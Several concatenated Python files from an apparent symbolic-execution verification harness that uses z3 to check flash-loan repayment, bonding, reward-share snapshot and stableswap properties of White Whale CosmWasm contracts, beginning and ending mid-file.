                   'the D kernel (compute_d): the y kernel is covered by the loop-exit obligations C04.kernel.*']
    return ck.finish()


from engine.core import Interp, Ctx
from engine.models_cw import World

if __name__ == '__main__':
    sys.exit(run_main(main))
