"""C06 — flash loans are repaid with all fees or the whole transaction reverts."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_vault import *

VR = 'white_whale_std::vault_network::vault_router::'
ROUTER = 'vault_router_contract'


def reply_never(ck, oid, p):
    bad = any(sm.fields[3].variant != 'Never' for sm, _ in messages(resp_of(p)))
    ck.oblige(oid, p, bad, 'no submessage catches errors (reply_on = Never), so a failing callback reverts the whole transaction')


def loan_messages(ck, prog, kind):
    k = kind[0]; A = ASSET_NAME[kind]
    n = 0
    for p in ck.explore(prog, flash_loan_body(kind), 'flash_loan.' + k):
        ck.sample(dict(entry='vault.execute(flash_loan)', kind=kind, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; loan = p.extra['loan']; B = st['B']
        eff = effects(resp_of(p), VAULT)
        reply_never(ck, 'C06.loan.reply_modes.' + k, p)
        ck.oblige('C06.loan.counter_inc.' + k, p, p.world.storage['loan_counter'] != st['counter'] + 1, 'loan counter incremented by one')
        if kind == 'native':
            shape = len(eff) == 2 and eff[0].kind == 'call' and same(eff[0].asset, 'borrower') and eff[1].kind == 'call' and same(eff[1].asset, VAULT)
            ck.oblige('C06.loan.messages.n.shape', p, not shape, '[borrower callback with the loan as funds, AfterTrade to self] in that order')
            if shape:
                f = eff[0].funds
                okf = len(f) == 1 and same(f[0].fields[0], 'uluna')
                ck.oblige('C06.loan.messages.n', p, (not okf) or z3.Or(f[0].fields[1].fields[0] != loan), 'callback carries exactly the loan amount of the vault asset')
                after = eff[1]
        else:
            shape = len(eff) == 3 and eff[0].kind == 'send' and same(eff[0].asset, A) and same(eff[0].dst, 'borrower') and \
                eff[1].kind == 'call' and same(eff[1].asset, 'borrower') and len(eff[1].funds) == 0 and eff[2].kind == 'call' and same(eff[2].asset, VAULT)
            ck.oblige('C06.loan.messages.c.shape', p, not shape, '[cw20 transfer of the loan to the borrower, borrower callback, AfterTrade to self] in that order')
            if shape:
                ck.oblige('C06.loan.messages.c', p, eff[0].amount != loan, 'transfers exactly the loan amount')
                after = eff[2]
        if shape:
            m = after.msg
            okm = isinstance(m, Enum) and m.variant == 'Callback' and m.fields[0].variant == 'AfterTrade' and len(after.funds) == 0
            ck.oblige('C06.loan.after_msg.' + k, p, (not okm) or z3.Or(m.fields[0].fields[0].fields[0] != B, m.fields[0].fields[1].fields[0] != loan),
                      'AfterTrade carries old_balance = balance before the loan and the loan amount')
            bm = eff[0].msg if kind == 'native' else eff[1].msg
            ck.oblige('C06.loan.payload.' + k, p, not (isinstance(bm, Str) and bm.s == 'borrower-payload'), 'borrower payload forwarded untouched')
    ck.require(n >= 1, 'flash_loan: no Ok path')


def after_trade_checks(ck, prog, kind):
    k = kind[0]; A = ASSET_NAME[kind]
    paths = ck.explore(prog, after_trade_body(kind), 'after_trade.' + k)
    n = 0
    for p in paths:
        ck.sample(dict(entry='vault.execute(callback(after_trade))', kind=kind, outcome=p.short()))
        st = p.extra['st']; new, F = st['B'], st['F']; old, loan = p.extra['old'], p.extra['loan']
        fp, fl, fb = st['fees']
        P, L, Bn = z3.Int('P_spec'), z3.Int('L_spec'), z3.Int('Bn_spec')
        spec = [P * E18 <= fp * loan, (P + 1) * E18 > fp * loan, L * E18 <= fl * loan, (L + 1) * E18 > fl * loan,
                Bn * E18 <= fb * loan, (Bn + 1) * E18 > fb * loan]
        if p.ok:
            n += 1
            eff = effects(resp_of(p), VAULT)
            burned = total(eff, 'burn', A)
            rest = [e for e in eff if not (e.kind == 'burn' and same(e.asset, A))]
            ck.oblige('C06.after.required.' + k, p, new < old + P + L + Bn, 'Ok => balance now >= old balance + protocol + flash-loan + burn fee', lemmas=spec)
            ck.oblige('C06.after.ledger.' + k, p, vledger(p, 'collected_protocol_fees') != F + P, 'pending ledger grows by exactly floor(protocol share * loan)', lemmas=spec)
            ck.oblige('C06.after.alltime.' + k, p, z3.Or(vledger(p, 'all_time_collected_protocol_fees') != st['at'] + P,
                                                        vledger(p, 'all_time_burned_fees') != st['ab'] + Bn), 'all-time counters grow by exactly the charges', lemmas=spec)
            ck.oblige('C06.after.burnmsg.' + k, p, z3.Or(burned != Bn, len(rest) != 0), 'burn fee destroyed by a burn message of exactly floor(burn share * loan); nothing else is sent', lemmas=spec)
            cnt = st['counter']
            ck.oblige('C06.after.counter_dec.' + k, p, p.world.storage['loan_counter'] != z3.If(cnt >= 1, cnt - 1, 0), 'loan counter decremented')
            reply_never(ck, 'C06.after.reply_modes.' + k, p)
        elif p.err:
            ck.oblige('C06.after.err_only_if_short.' + k, p, z3.And(new >= old + P + L + Bn, old + P + L + Bn < 2**128), 'rejected only when the balance is short of the required amount', lemmas=spec)
    ck.require(n >= 1, 'after_trade: no Ok path')
    # callback only from the vault itself (symbolic sender identity)
    for p in ck.explore(prog, after_trade_body(kind, sym_sender=True), 'callback.sender.' + k):
        if p.ok:
            ck.oblige('C06.callback.self_only.' + k, p, z3.Int('cb_sender') != Str(VAULT).ident(), 'Ok => the sender is the vault itself')


def payback_checks(ck, prog, kind):
    """repaying exactly the quoted payback amount always suffices, one unit less never does (query vs after_trade, same state)."""
    k = kind[0]
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind)
        loan = c.sym('loan', 128)
        q = enter(it, 'vault', 'query', mk_env(it, 10**18), None, it.mkv(VN + 'QueryMsg', 'GetPaybackAmount', amount=U128(loan)))
        if q.variant != 'Ok': raise PathPruned()
        resp = q.fields[0].fields[0].payload
        pay = it.fld(resp, 'payback_amount').fields[0]
        short = c.sym('short', 1)        # 0: repay exactly, 1: one unit less
        old = c.sym('old_balance', 128)
        c.assume(old >= loan); c.assume(old - loan + pay < 2**128)
        c.assume(st['at'] + loan < 2**128); c.assume(st['ab'] + loan < 2**128); c.assume(st['F'] + loan < 2**128)
        newb = old - loan + pay - short
        c.assume(newb >= 0)
        # the vault's balance now is what the borrower left: rebuild the balance entry
        if kind == 'native': it.world.bank = [(a, d, newb) for a, d, x in it.world.bank]
        else: it.world.cw20 = [(t, h, newb) for t, h, x in it.world.cw20]
        it.extra = dict(st=st, pay=pay, short=short)
        msg = it.mkv(VX, 'Callback', it.mkv(VN + 'CallbackMsg', 'AfterTrade', old_balance=U128(old), loan_amount=U128(loan)))
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info(VAULT, []), msg)
    for p in ck.explore(prog, body, 'payback.' + k):
        short = p.extra['short']
        if p.ok: ck.oblige('C06.payback.minus_one_fails.' + k, p, short == 1, 'one unit less than the quoted payback is never accepted')
        elif p.err: ck.oblige('C06.payback.suffices.' + k, p, short == 0, 'repaying exactly the quoted payback amount always suffices')
        else: ck.oblige('C06.payback.no_abort.' + k, p, True, 'no abort for a fundable repayment', site=p.short())


def deposit_during_loan(ck, prog, kind):
    k = kind[0]
    def body(it):
        b = deposit_body(kind, first=False, counter=it.ctx.sym('loan_counter', 32))
        return b(it)
    for p in ck.explore(prog, body, 'deposit_during_loan.' + k):
        if p.ok: ck.oblige('C06.deposit.during_loan.' + k, p, z3.Int('loan_counter') != 0, 'no shares are minted while a loan is outstanding')


def apply_balance(it, kind, delta_fn):
    if kind == 'native': it.world.bank = [(a, d, delta_fn(x) if same(a, VAULT) else x) for a, d, x in it.world.bank]
    else: it.world.cw20 = [(t, h, delta_fn(x) if same(h, VAULT) else x) for t, h, x in it.world.cw20]


def nested(ck, prog, kind):
    """bounded history: outer loan, inside its callback an inner loan that completes, then the outer completes.  The borrower's
    repayments r_i, r_o are arbitrary.  C06: the final balance exceeds the initial one by the protocol + flash fees of BOTH loans."""
    k = kind[0]; A = ASSET_NAME[kind]
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind, counter=0)
        c.assume(st['F'] <= st['B'])
        Lo, Li, ri, ro = c.sym('loan_outer', 128), c.sym('loan_inner', 128), c.sym('repay_inner', 128), c.sym('repay_outer', 128)
        c.assume(Lo <= st['B']); c.assume(Li <= st['B'] - Lo)      # the bank can fund what is lent out
        env = mk_env(it, 10**18)
        def loan(L):
            r = enter(it, 'vault', 'execute', env, mk_info('borrower', []), it.mkv(VX, 'FlashLoan', amount=U128(L), msg=BIN(Str('x'))))
            if r.variant != 'Ok': raise PathPruned()
            eff = effects(r.fields[0], VAULT)
            apply_balance(it, kind, lambda x: x - L)           # funds leave with the callback / cw20 transfer
            return [e for e in eff if e.kind == 'call' and same(e.asset, VAULT)][0].msg
        def finish(cbmsg, repay):
            apply_balance(it, kind, lambda x: x + repay)       # whatever the borrower sends back
            r = enter(it, 'vault', 'execute', env, mk_info(VAULT, []), cbmsg)
            if r.variant != 'Ok': raise PathPruned()
            burned = total(effects(r.fields[0], VAULT), 'burn', A)
            apply_balance(it, kind, lambda x: x - burned)
            return burned
        cb_o = loan(Lo); cb_i = loan(Li)
        c.assume(ri < 2**127); c.assume(ro < 2**127)
        b_i = finish(cb_i, ri); b_o = finish(cb_o, ro)
        bal = [x for a, d, x in it.world.bank][0] if kind == 'native' else [x for t, h, x in it.world.cw20][0]
        it.extra = dict(st=st, Lo=Lo, Li=Li, final=bal, F_end=vledger_w(it.world), counter=it.world.storage['loan_counter'])
        return OK(UNIT())
    paths = ck.explore(prog, body, 'nested.' + k)
    for p in paths:
        if p.kind != 'ret': continue
        st = p.extra['st']; B0, F0 = st['B'], st['F']; fp, fl, fb = st['fees']; Lo, Li = p.extra['Lo'], p.extra['Li']
        Po, Lfo, Pi, Lfi = [z3.Int(n) for n in ('Po', 'Lfo', 'Pi', 'Lfi')]
        spec = []
        for v, share, L in ((Po, fp, Lo), (Lfo, fl, Lo), (Pi, fp, Li), (Lfi, fl, Li)):
            spec += [v * E18 <= share * L, (v + 1) * E18 > share * L]
        ck.oblige('C06.nest.counter.depth2.' + k, p, p.extra['counter'] != 0, 'loan counter back to zero after nested loans')
        ck.oblige('C06.nest.ledger.depth2.' + k, p, p.extra['F_end'] != F0 + Po + Pi, 'ledger grew by the protocol fees of both loans', lemmas=spec)
        ck.oblige('C06.nest.outer_fees.depth2.' + k, p, p.extra['final'] < B0 + Po + Lfo, 'final balance covers at least the outer loan\'s protocol and flash-loan fees', lemmas=spec)
        ck.oblige('C06.nest.all_fees.depth2.' + k, p, p.extra['final'] < B0 + Po + Lfo + Pi + Lfi,
                  'final balance higher than before by the protocol and flash-loan fees of every loan completed within it', lemmas=spec,
                  site='nested loan fees')


def vledger_w(w): return w.storage['collected_protocol_fees'].fields[1].fields[0]


# ------------------------------------------------------------------------------------------------------------------
def router_world(it):
    w = it.world; w.contract = ROUTER
    w.item('config', it.mk(VR + 'Config', owner=ADDR('owner'), vault_factory=ADDR('vault_factory')))


def lasset(it, kind, amount):
    return it.mk(PN + 'asset::Asset', info=vinfo(it, kind), amount=U128(amount))


def router_checks(ck, progr):
    RX = VR + 'ExecuteMsg'
    payload = VecV([Enum('cosmwasm_std::CosmosMsg', 'Bank', [Enum('cosmwasm_std::BankMsg', 'Send', [Str('arb_bot'), VecV([COIN('uluna', 7)])])])])
    FQ = 'white_whale_std::vault_network::vault_factory::QueryMsg'
    # next_loan: only from the vault the factory registers for that asset
    for kind in ('native', 'cw20'):
        for registered in ('same', 'other', 'none'):
            def body(it, kind=kind, registered=registered):
                c = it.ctx; router_world(it)
                sender = Str(None, sym=c.sym('nl_sender')); src = Str(None, sym=c.sym('source_vault'))
                ans = {'same': SOME(src), 'other': SOME(Str(None, sym=c.sym('registered_vault'))), 'none': NONE()}[registered]
                it.world.smart_table.append(('vault_factory', it.mkv(FQ, 'Vault', asset_info=vinfo(it, kind)), ans))
                la = VecV([Agg('tuple', [src, lasset(it, kind, c.sym('loaned', 128))])])
                msg = it.mkv(RX, 'NextLoan', initiator=ADDR('initiator'), source_vault=src, source_vault_asset_info=vinfo(it, kind),
                             payload=dup(payload), to_loan=VecV([]), loaned_assets=la)
                return enter(it, 'vault_router', 'execute', mk_env(it, 10**18), mk_info(ADDR(sender), []), msg)
            for p in ck.explore(progr, body, 'router.next_loan.%s.%s' % (kind[0], registered)):
                ck.sample(dict(entry='vault_router.execute(next_loan)', kind=kind, factory_answer=registered, outcome=p.short()))
                if not p.ok: continue
                snd, src = z3.Int('nl_sender'), z3.Int('source_vault')
                reg = src if registered == 'same' else z3.Int('registered_vault')
                ck.oblige('C06.router.next.auth.%s.%s' % (kind[0], registered), p, z3.Or(registered == 'none', snd != src, reg != src) if registered != 'none' else True,
                          'NextLoan accepted only from the vault the factory lists for the asset')
                calls = wasm_execs(resp_of(p)); msgs = messages(resp_of(p))
                shape = len(msgs) == 2 and len(calls) == 1 and same(sname(calls[0][0]), ROUTER) and isinstance(calls[0][1], Enum) and calls[0][1].variant == 'CompleteLoan'
                ck.oblige('C06.router.next.chain.%s.%s' % (kind[0], registered), p, not shape, 'payload untouched, CompleteLoan appended exactly once at the end')
                if shape:
                    cl = calls[0][1]
                    ck.oblige('C06.router.next.complete_args.%s.%s' % (kind[0], registered), p,
                              z3.Or(not same(sname(cl.fields[0]), 'initiator'), cl.fields[1].items[0].fields[1].fields[1].fields[0] != z3.Int('loaned')),
                              'CompleteLoan carries the initiator and the loaned assets')
                reply_never(ck, 'C06.router.next.reply_modes.' + kind[0], p)
    # complete_loan: only from the router itself; pays the vault exactly the quoted payback and forwards all the rest
    for kind in ('native', 'cw20'):
        A = ASSET_NAME[kind]
        def body(it, kind=kind):
            c = it.ctx; router_world(it)
            sender = Str(None, sym=c.sym('cl_sender'))
            loaned = c.sym('loaned', 128); pay = c.sym('payback', 128); have = c.sym('router_balance', 128)
            pr = it.mk(VN + 'PaybackAmountResponse', payback_amount=U128(pay), protocol_fee=U128(c.sym('pq', 128)), flash_loan_fee=U128(c.sym('lq', 128)), burn_fee=U128(c.sym('bq', 128)))
            it.world.smart_table.append(('the_vault', it.mkv(VN + 'QueryMsg', 'GetPaybackAmount', amount=U128(loaned)), pr))
            if kind == 'native': it.world.bank.append((Str(ROUTER), Str('uluna'), have))
            else: it.world.cw20.append((Str('vault_token'), Str(ROUTER), have))
            msg = it.mkv(RX, 'CompleteLoan', initiator=ADDR('initiator'), loaned_assets=VecV([Agg('tuple', [Str('the_vault'), lasset(it, kind, loaned)])]))
            return enter(it, 'vault_router', 'execute', mk_env(it, 10**18), mk_info(ADDR(sender), []), msg)
        n = 0
        for p in ck.explore(progr, body, 'router.complete_loan.' + kind[0]):
            ck.sample(dict(entry='vault_router.execute(complete_loan)', kind=kind, outcome=p.short()))
            if not p.ok: continue
            n += 1
            pay, have = z3.Int('payback'), z3.Int('router_balance')
            eff = effects(resp_of(p), ROUTER)
            to_vault = total(eff, 'send', A, lambda e: same(e.dst, 'the_vault')); to_init = total(eff, 'send', A, lambda e: same(e.dst, 'initiator'))
            rest = [e for e in eff if not (e.kind == 'send' and same(e.asset, A) and (same(e.dst, 'the_vault') or same(e.dst, 'initiator')))]
            ck.oblige('C06.router.complete.self_only.' + kind[0], p, z3.Int('cl_sender') != Str(ROUTER).ident(), 'CompleteLoan accepted only from the router itself')
            ck.oblige('C06.router.complete.payback.' + kind[0], p, to_vault != pay, 'the vault receives exactly its quoted payback amount')
            ck.oblige('C06.router.complete.profit_all.' + kind[0], p, z3.Or(to_init != have - pay, len(rest) != 0), 'the whole remaining balance goes to the initiator; the router keeps nothing')
            reply_never(ck, 'C06.router.complete.reply_modes.' + kind[0], p)
        ck.require(n >= 1, 'complete_loan: no Ok path')


def main():
    ck = Check('C06')
    prog = ck.program('vault', 'white_whale_std')
    for kind in ('native', 'cw20'):
        loan_messages(ck, prog, kind); after_trade_checks(ck, prog, kind); payback_checks(ck, prog, kind)
        deposit_during_loan(ck, prog, kind)
    nested(ck, prog, 'native')
    if ck.tier == 'thorough': nested(ck, prog, 'cw20')
    router_checks(ck, ck.program('vault_router', 'white_whale_std'))
    ck.bounds.update(adversary='the borrower callback is abstracted as "any balance / any ledger afterwards" (after_trade runs from an arbitrary state), so every callback behaviour incl. re-entrancy is covered for the single-loan obligations',
                     nesting='nested loans: bounded history of depth 2 (outer loan, inner loan completing inside it) with arbitrary repayments',
                     router='single-vault router loans (multi-asset loans are rejected by the router), 1 payload message')
    ck.outside += ['chain-level revert atomicity (assumed)', 'nesting depth 3']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
