"""Symbolic world builder for the bonding contract (whale_lair)."""
import z3
from engine.harness import *

WL = 'white_whale_std::whale_lair::'
FD = 'white_whale_std::fee_distributor::'
PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
LAIR = 'whale_lair_contract'
DENOMS = ['uwhale', 'ampwhale']
DISTRIBUTOR = 'fee_distributor_contract'


def nat(it, d): return it.mkv(AI, 'NativeToken', denom=Str(d))
def nasset(it, d, amt): return it.mk(PN + 'asset::Asset', info=nat(it, d), amount=U128(amt))


def bondv(it, d, amount, ts, weight):
    return it.mk(WL + 'Bond', asset=nasset(it, d, amount), timestamp=TS(ts), weight=U128(weight))


def setup_lair(it, nrec=2, claimable_empty=True, with_bond=True, owner='owner', bob=True, distributor=None):
    """acting user alice on denom DENOMS[0]; nrec pending unbonding records with strictly increasing symbolic timestamps;
    the rest of the world as symbolic aggregates; Inv: balance = bonded + unbonding per denom, GLOBAL consistent."""
    c = it.ctx; w = it.world; w.contract = LAIR
    d = DENOMS[0]
    period = c.sym('period', 64); growth = c.sym('growth', 128)
    c.assume(growth <= E18)
    w.item('config', it.mk(WL + 'Config', owner=ADDR(owner), unbonding_period=U64(period), growth_rate=DEC(growth),
                           bonding_assets=VecV([nat(it, x) for x in DENOMS]), fee_distributor_addr=ADDR(DISTRIBUTOR if distributor is None else distributor)))
    bond_amt = c.sym('bond_amt', 128, lo=1); bts = c.sym('bond_ts', 64); bw = c.sym('bond_weight', 128)
    bonds = w.map('bond', [([Str('alice'), Str(d)], bondv(it, d, bond_amt, bts, bw))] if with_bond else [])
    recs = []; ts = []; us = []
    for k in range(nrec):
        t = c.sym('ts%d' % k, 64); u_ = c.sym('u%d' % k, 128, lo=1)
        if ts: c.assume(t > ts[-1])
        ts.append(t); us.append(u_)
        recs.append(([Str('alice'), Str(d), t], bondv(it, d, u_, t, 0)))
    bob_ts = c.sym('bob_ts', 64); bob_u = c.sym('bob_u', 128, lo=1)
    if bob: recs.append(([Str('bob'), Str(d), bob_ts], bondv(it, d, bob_u, bob_ts, 0)))
    w.map('unbond', recs)
    ob = [c.sym('other_bonded0', 128), c.sym('other_bonded1', 128)]
    ou = [c.sym('other_unbonding0', 128), c.sym('other_unbonding1', 128)]
    my_bond = bond_amt if with_bond else 0
    g = [my_bond + ob[0], ob[1]]
    gts = c.sym('global_ts', 64); gw = c.sym('global_weight', 128)
    w.item('global', it.mk(WL + 'GlobalIndex', bonded_amount=U128(g[0] + g[1]), bonded_assets=VecV([nasset(it, DENOMS[0], g[0]), nasset(it, DENOMS[1], g[1])]),
                           timestamp=TS(gts), weight=U128(gw)))
    unb0 = sum(us) + (bob_u if bob else 0) + ou[0]
    bal = [g[0] + unb0, g[1] + ou[1]]
    for x in bal + g: c.assume(x < 2**127)
    c.assume(g[0] + g[1] < 2**127)
    w.bank.append((Str(LAIR), Str(DENOMS[0]), bal[0])); w.bank.append((Str(LAIR), Str(DENOMS[1]), bal[1]))
    # fee distributor answers
    ep = it.mk(FD + 'Epoch', id=U64(c.sym('cur_epoch_id', 64)), start_time=TS(c.sym('cur_epoch_start', 64)), total=VecV([]), available=VecV([]), claimed=VecV([]),
               global_index=it.mk(WL + 'GlobalIndex', bonded_amount=U128(0), bonded_assets=VecV([]), timestamp=TS(0), weight=U128(0)))
    w.smart_table.append((DISTRIBUTOR, it.mkv(FD + 'QueryMsg', 'CurrentEpoch'), it.mk(FD + 'EpochResponse', epoch=ep)))
    for who in ('alice',):
        w.smart_table.append((DISTRIBUTOR, it.mkv(FD + 'QueryMsg', 'Claimable', address=Str(who)),
                              it.mk(FD + 'ClaimableEpochsResponse', epochs=VecV([] if claimable_empty else [dup(ep)]))))
    return dict(d=d, period=period, bond_amt=my_bond, bts=bts, bw=bw, ts=ts, us=us, bob_ts=bob_ts, bob_u=bob_u, ob=ob, ou=ou, g=g, bal=bal, gts=gts, gw=gw)


def unbond_sum(p, who='alice', denom=None):
    """sum of pending unbonding amounts of `who` in the post-state (denom filter optional) and the list of (ts, amount)."""
    tot = 0; recs = []
    for parts, v in p.world.storage['unbond'].entries:
        if same(deref(parts[0]) if not isinstance(deref(parts[0]), Agg) else deref(parts[0]).fields[0], who):
            amt = v.fields[0].fields[1].fields[0]
            tot = tot + amt; recs.append((parts[2], amt))
    return tot, recs


def bond_amount(p, who='alice'):
    for parts, v in p.world.storage['bond'].entries:
        x = deref(parts[0]); x = x.fields[0] if isinstance(x, Agg) else x
        if same(x, who): return v.fields[0].fields[1].fields[0]
    return 0


def global_of(p):
    """(global bonded total, [amount reported for DENOMS[0], for DENOMS[1]]) - looked up by denom: a missing entry reports 0, entries of one denom add up"""
    g = p.world.storage['global']
    per = []
    for d in DENOMS:
        mine = [a.fields[1].fields[0] for a in g.fields[1].items if same(a.fields[0].fields[0], d)]
        per.append(sum(mine) if mine else 0)
    return g.fields[0].fields[0], per
