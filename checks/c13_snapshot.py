"""C13, snapshot part: in every epoch the reward shares of all addresses add up to at most 100%, whenever the snapshot is taken.
Bounded history: two users open positions in epoch e-1; in epoch e one of them closes BEFORE the (permissionless) snapshot is taken."""
import z3
from lib_inc import *
from c11 import STUBS

E = 7


def set_epoch(it, e):
    w = it.world
    w.smart_table = [x for x in w.smart_table if not (isinstance(x[1], Enum) and x[1].variant == 'CurrentEpoch')]
    ep = it.mk(FD + 'Epoch', id=U64(e), start_time=TS(0), total=VecV([]), available=VecV([]), claimed=VecV([]),
               global_index=it.mk(WL + 'GlobalIndex', bonded_amount=U128(0), bonded_assets=VecV([]), timestamp=TS(0), weight=U128(0)))
    w.smart_table.append((DIST, it.mkv(FD + 'QueryMsg', 'CurrentEpoch'), it.mk(FD + 'EpochResponse', epoch=ep)))


def run(ck):
    prog = ck.program('incentive', 'white_whale_std')
    for order in ('close_then_snapshot', 'snapshot_then_close', 'snapshot_then_expand'):
        def body(it, order=order):
            c = it.ctx
            st = setup_inc(it, 'native', epoch=E - 1)
            w = it.world
            rest = c.sym('rest_weight', 128); c.assume(rest < 2**100)
            w.map('open_positions', []); w.map('closed_positions', []); w.map('address_weight', []); w.map('address_weight_snapshot', [])
            w.map('global_weight_snapshot', []); w.map('last_claimed_epoch', []); w.map('flows', []); w.item('flow_counter', 0)
            w.item('global_weight', U128(rest))
            a, b = c.sym('a', 128, lo=1), c.sym('b', 128, lo=1); Da, Db = c.sym('Da', 64), c.sym('Db', 64)
            c.assume(a <= 2**100); c.assume(b <= 2**100)
            env = mk_env(it, c.sym('now', 64))
            def call(who, msg, funds=()):
                r = enter(it, 'incentive', 'execute', env, mk_info(who, list(funds)), msg)
                if r.variant != 'Ok': raise PathPruned()
            call('alice', it.mkv(IX, 'OpenPosition', amount=U128(a), unbonding_duration=Da, receiver=NONE()), [COIN(st['lp'], a)])
            call('bob', it.mkv(IX, 'OpenPosition', amount=U128(b), unbonding_duration=Db, receiver=NONE()), [COIN(st['lp'], b)])
            set_epoch(it, E)
            if order == 'close_then_snapshot':
                call('bob', it.mkv(IX, 'ClosePosition', unbonding_duration=Db))
                call('anyone', it.mkv(IX, 'TakeGlobalWeightSnapshot'))
            elif order == 'snapshot_then_close':
                call('anyone', it.mkv(IX, 'TakeGlobalWeightSnapshot'))
                call('bob', it.mkv(IX, 'ClosePosition', unbonding_duration=Db))
            else:   # a position change AFTER the snapshot counts from the next epoch on: this epoch's shares still use this epoch's weights
                call('anyone', it.mkv(IX, 'TakeGlobalWeightSnapshot'))
                x = c.sym('x', 128, lo=1); c.assume(x <= 2**100)
                call('alice', it.mkv(IX, 'ExpandPosition', amount=U128(x), unbonding_duration=Da, receiver=NONE()), [COIN(st['lp'], x)])
            shares = []
            for who in ('alice', 'bob'):
                q = enter(it, 'incentive', 'query', env, None, it.mkv(I + 'QueryMsg', 'CurrentEpochRewardsShare', address=Str(who)))
                if q.variant != 'Ok': raise PathPruned()
                shares.append(it.fld(q.fields[0].fields[0].payload, 'share').fields[0])
            it.extra = dict(shares=shares, rest=rest)
            return OK(UNIT())
        n = 0
        for p in ck.explore(prog, body, 'snapshot.' + order, stubs=STUBS, validate=False):
            if p.kind != 'ret': continue
            n += 1
            sa, sb = p.extra['shares']
            if order == 'close_then_snapshot':
                ck.oblige('C13.snapshot.shares_le_one.close_before_snapshot', p, sa + sb > E18,
                          'a position closed earlier in the epoch than the snapshot still counts with its full weight for that epoch while the snapshot no longer contains it: shares exceed 100%',
                          site='close before snapshot in the same epoch')
            else:
                ck.oblige('C13.snapshot.shares_le_one.' + order, p, sa + sb > E18, 'shares of all addresses add up to at most 100%')
        ck.require(n >= 1, 'snapshot.%s: no complete path' % order)
    ck.bounds.update(snapshot='history of depth 4 + 2 share queries: two users + symbolic rest, one epoch boundary, snapshot before / after a close, snapshot before an expansion')
