"""C03 — two-asset stableswap pool (reduced scope, see DESIGN.md): everything AROUND the two Newton solvers is decided for every input;
the solvers themselves (calculate_stableswap_y, compute_d: 32 / 256 data-dependent iterations of 256/512-bit rational arithmetic) are
uninterpreted functions of their arguments.  What is decided: which reserves / amounts / decimals / amplification reach the solvers (by asset
identity, net of pending fees and of the just-received offer or deposit, decimal-normalised), that proceeds + fees are exactly reserve - y and
never exceed the reserve, the fee split, that the LP mint is at most S*(D1-D0)/D0 over reserves in pool order with D1 > D0, and that quote and
execution agree.  Accuracy / convergence / monotonicity of the solvers is outside (stated in the evidence)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *
import c14 as C14

HY = 'terraswap_pair::helpers::calculate_stableswap_y'
HD = 'terraswap_pair::helpers::compute_d'
HM = 'terraswap_pair::helpers::compute_lp_mint_amount_for_stableswap_deposit'
Y2 = z3.Function('Y2', *([z3.IntSort()] * 6), z3.IntSort())
D2 = z3.Function('D2', *([z3.IntSort()] * 3), z3.IntSort())
DECIMALS_QUICK = [(6, 6), (6, 8), (18, 6)]
DECIMALS_ALL = [(6, 6), (6, 8), (8, 6), (6, 18), (18, 6), (4, 5)]


def stub_y(it, a, c):
    op, ap, oa = [zint(deref(x).fields[0]) for x in a[:3]]
    amp = zint(deref(a[3])); prec = zint(a[4]); direction = deref(a[5]).variant
    if not hasattr(it, 'extra'): it.extra = {}
    it.extra.setdefault('y_args', []).append((op, ap, oa, amp, prec, direction))
    y = Y2(op, ap, oa, amp, prec, z3.IntVal(0 if direction == 'Simulate' else 1))
    it.ctx.pc += [y >= 0, y < 2**128]
    return OK(U128(y))


def stub_d(it, a, c):
    amp = zint(deref(a[0])); x, y = zint(deref(a[1]).fields[0]), zint(deref(a[2]).fields[0])
    if not hasattr(it, 'extra'): it.extra = {}
    it.extra.setdefault('d_args', []).append((amp, x, y))
    d = D2(amp, x, y)
    it.ctx.pc += [d >= 0, d < 2**256]
    return SOME(U512(d))


def amp_sym(c):
    a = c.sym('amp', 64); c.assume(a >= 1); c.assume(a <= 10**6); return a


def swap_shell(ck, prog, cfg, oi, dec):
    kinds = KIND_CFGS[cfg]; ai = 1 - oi
    tag = 'swap.%s.o%d.d%d_%d' % (cfg, oi, dec[0], dec[1])
    n = 0
    for p in ck.explore(prog, swap_body(kinds, oi, pair_type='ss', amp=amp_sym, decimals=dec), tag, stubs={HY: stub_y}, validate=False):
        ck.sample(dict(entry='pair(stableswap).execute(swap)', cfg=cfg, offer_index=oi, decimals=dec, outcome=p.short()))
        ya = p.extra.get('y_args')
        if not ya: continue
        st = p.extra['st']; off = p.extra['offer']; b, f = st['b'], st['f']
        op, ap, oa, amp, prec, direction = ya[0]
        so, sa = 10 ** (18 - dec[oi]), 10 ** (18 - dec[ai])
        ck.oblige('C03.swap.args.' + tag, p, z3.Or(op != (b[oi] - f[oi] - off) * so, ap != (b[ai] - f[ai]) * sa, oa != off * so, amp != z3.Int('amp'), prec != dec[ai], direction != 'Simulate', len(ya) != 1),
                  'the solver receives the offer / ask reserves picked by asset identity, net of pending fees and of the just-received offer, each scaled by its own asset\'s decimals, and the ask asset\'s precision')
        if not p.ok: continue
        n += 1
        y = Y2(op, ap, oa, amp, prec, z3.IntVal(0))
        eff = effects(resp_of(p), PAIR); A = aname(kinds, ai)
        nf = ledger_after(p, 'collected_protocol_fees')
        sent, burned, prot = total(eff, 'send', A), total(eff, 'burn', A), nf[ai] - f[ai]
        swf = C14.attr_num(resp_of(p), 'swap_fee_amount')
        R = b[ai] - f[ai]
        gross = R - y
        ck.oblige('C03.swap.gross.' + tag, p, True if swf is None else sent + burned + prot + swf != gross, 'proceeds + swap fee + protocol fee + burn fee = ask reserve - y exactly')
        ck.oblige('C03.swap.bounded.' + tag, p, z3.Or(sent + burned > R, y > R), 'proceeds never exceed the (reported) ask reserve; the new reserve point y is not above the old one')
        ck.oblige('C03.swap.solvent.' + tag, p, b[ai] - sent - burned < nf[ai], 'after paying out the pool still holds its pending protocol fees')
        fp, fs, fb = st['fees']
        P, Bn, Sw = z3.Int('P_spec'), z3.Int('B_spec'), z3.Int('S_spec')
        spec = [P * E18 <= fp * gross, (P + 1) * E18 > fp * gross, Bn * E18 <= fb * gross, (Bn + 1) * E18 > fb * gross, Sw * E18 <= fs * gross, (Sw + 1) * E18 > fs * gross]
